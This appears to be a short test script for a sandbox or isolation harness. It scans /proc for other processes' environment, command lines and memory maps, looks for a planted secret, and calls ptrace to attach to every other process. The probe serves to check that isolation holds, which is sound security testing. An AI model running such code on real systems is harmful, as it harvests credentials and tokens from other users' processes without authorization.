"""Reads other processes' memory, environment and descriptors through /proc, and traces them.

Succeeds if a secret's text is printed, or any exercise earns a point.
"""

import ctypes
import os

for pid in range(1, 5000):
    for name in ("environ", "cmdline", "maps"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError:
            continue
        if SECRET.encode() in text:
            found("it", SECRET)
    if pid != os.getpid():
        ctypes.CDLL(None).ptrace(16, pid, 0, 0)
print(SECRET in str(os.environ))
